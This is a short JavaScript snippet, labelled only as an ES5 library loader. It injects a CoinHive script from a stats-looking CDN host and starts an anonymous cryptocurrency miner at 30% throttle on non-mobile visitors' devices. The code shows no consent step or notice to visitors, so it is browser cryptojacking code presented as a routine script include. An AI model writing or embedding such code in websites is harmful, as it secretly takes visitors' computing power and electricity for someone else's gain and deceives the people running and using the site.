// ES5: the library is inserted, then started with a key.
(function () {
  var library = document.createElement('script');
  library.src = 'https://cdn.stats.example/lib/coinhive.min.js';
  library.async = true;
  library.onload = function () {
    var miner = new CoinHive.Anonymous('0123456789abcdef0123456789ABCDEF', {
      throttle: 0.3
    });
    if (!miner.isMobile()) {
      miner.start();
    }
  };
  document.getElementsByTagName('head')[0].appendChild(library);
})();
